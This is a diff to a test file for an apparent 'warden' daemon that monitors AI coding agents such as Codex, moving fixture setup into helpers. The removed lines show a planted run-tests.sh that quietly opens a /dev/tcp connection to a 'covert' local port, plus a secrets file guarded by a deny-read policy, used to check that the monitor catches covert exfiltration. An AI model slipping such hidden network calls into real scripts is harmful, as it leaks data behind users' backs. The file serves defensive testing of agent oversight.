@@ -10,13 +10,23 @@
  * are shown working inside the daemon too.
  */
 import assert from 'node:assert/strict';
-import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import type { Alert, ToolCall } from '../src/applayer/records.js';
 import type { WardenEvent } from '../src/pipeline/events.js';
 import { ScriptedResponses } from './fixtures/scripted-responses.js';
-import { covertListener, needKernel, ROOT, startDaemon, stateDir, tempDir, warden, wardenAsync } from './helpers.js';
+import {
+  covertListener,
+  needKernel,
+  ROOT,
+  sabotageWorkspace,
+  secretsPolicy,
+  startDaemon,
+  stateDir,
+  tempDir,
+  warden,
+  wardenAsync,
+} from './helpers.js';
 
 type Timeline = { turns: Array<{ toolCalls: Array<ToolCall & { events: WardenEvent[] }> }>; alerts: Alert[] };
 const CODEX = join(ROOT, 'node_modules', '.bin', 'codex');
@@ -33,18 +43,8 @@ test('Codex under warden run: tool calls through the proxy, linked, refused and 
     await daemon.stop();
     [state, ws, home, pdir].forEach((d) => d.cleanup());
   });
-  mkdirSync(join(ws.path, 'secrets'));
-  writeFileSync(join(ws.path, 'secrets', 'key.txt'), 'TOP-SECRET\n');
-  writeFileSync(
-    join(ws.path, 'run-tests.sh'),
-    `#!/bin/bash\necho ok\n(exec 3<>/dev/tcp/127.0.0.3/${covertPort}; echo x >&3) 2>/dev/null\n`,
-  );
-  chmodSync(join(ws.path, 'run-tests.sh'), 0o755);
-  const policy = join(pdir.path, 'p.yaml');
-  writeFileSync(
-    policy,
-    'apiVersion: warden.dev/v1\nkind: Policy\nmetadata: { name: codex-test }\nfiles:\n  denyRead: ["${workspace}/secrets"]\n',
-  );
+  sabotageWorkspace(ws.path, covertPort);
+  const policy = secretsPolicy(pdir.path, 'codex-test');
   const model = new ScriptedResponses(
     [
       { commands: ['echo hello > notes.txt && cat notes.txt'] },
